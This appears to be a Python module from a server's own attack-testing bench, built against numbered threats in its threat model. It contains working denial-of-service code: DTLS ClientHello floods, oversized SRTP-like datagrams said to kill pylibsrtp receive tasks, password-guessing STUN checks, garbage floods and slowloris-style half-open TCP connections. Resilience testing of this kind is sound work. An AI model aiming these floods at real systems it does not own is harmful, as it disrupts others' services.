"""Attacks of people who know nothing but the address of the port (threats 3, 4 and 23)."""

from __future__ import annotations

import random
import socket
import time
from collections import deque
from collections.abc import Callable
from contextlib import suppress
from typing import Final

from aioice import stun

from server.bench.attacking.fire import Datagrams, Fired, Target, fire

RATE_PER_S: Final = 5000
CONNECTIONS_PER_S: Final = 300
OPEN_AT_ONCE: Final = 400
HELLO: Final = bytes.fromhex("16fefd0000000000000000002e010000220000000000000022fefd")
LONG: Final = (1501, 1502, 2048, 9000)


def hellos(chance: random.Random) -> Datagrams:
    """DTLS ClientHellos, as in the race for a victim's handshake."""
    while True:
        yield HELLO + chance.randbytes(32) + b"\0"


def long_ones(chance: random.Random) -> Datagrams:
    """Datagrams of 1501 bytes and more that look like SRTP: they end the receive task of pylibsrtp's callers."""
    while True:
        yield bytes((0x80, 96)) + bytes(chance.choice(LONG) - 2)


def checks(chance: random.Random) -> Datagrams:
    """Connectivity checks of somebody who knows no password."""
    while True:
        yield check(f"{chance.randbytes(6).hex()}:them", b"guess-guess-guess-guess")


def check(username: str, pwd: bytes) -> bytes:
    message = stun.Message(stun.Method.BINDING, stun.Class.REQUEST)
    message.attributes["USERNAME"] = username
    message.attributes["PRIORITY"] = 1
    message.add_message_integrity(pwd)
    message.add_fingerprint()
    return bytes(message)


def garbage(chance: random.Random) -> Datagrams:
    while True:
        yield chance.randbytes(chance.randint(1, 1400))


def connections(target: Target) -> Fired:
    """TCP connections on which a packet is begun and never ended (slow ones); the oldest of ours goes for a new one."""
    fired = Fired(counts={"refused": 0})
    opened: deque[socket.socket] = deque()
    began = time.monotonic()
    while (passed := time.monotonic() - began) < target.seconds:
        if fired.sent < passed * CONNECTIONS_PER_S:
            opened.append(_begin(target, fired))
        else:
            time.sleep(0.001)
        if len(opened) > OPEN_AT_ONCE:
            _end(opened.popleft(), fired)
    while opened:
        _end(opened.popleft(), fired)
    return fired


def _begin(target: Target, fired: Fired) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    half = bytes((4, 0)) + HELLO
    with suppress(OSError):
        sock.settimeout(1.0)
        sock.connect(target.tcp)
        sock.sendall(half)
    fired.sent += 1
    fired.sent_bytes += len(half)
    return sock


def _end(sock: socket.socket, fired: Fired) -> None:
    sock.setblocking(False)
    try:
        got = sock.recv(4096)
        fired.got_bytes += len(got)
        fired.counts["refused"] += not got
    except BlockingIOError:
        pass
    except OSError:
        fired.counts["refused"] += 1
    sock.close()


def _by_datagrams(kind: Callable[[random.Random], Datagrams]) -> Callable[[Target], Fired]:
    def attack(target: Target) -> Fired:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.bind((target.udp[0], 0))
            return fire(sock, target, RATE_PER_S, kind(random.Random(target.seed)))

    return attack


STRANGERS: Final[dict[str, Callable[[Target], Fired]]] = {
    "hello": _by_datagrams(hellos),
    "long": _by_datagrams(long_ones),
    "check": _by_datagrams(checks),
    "garbage": _by_datagrams(garbage),
    "connections": connections,
}
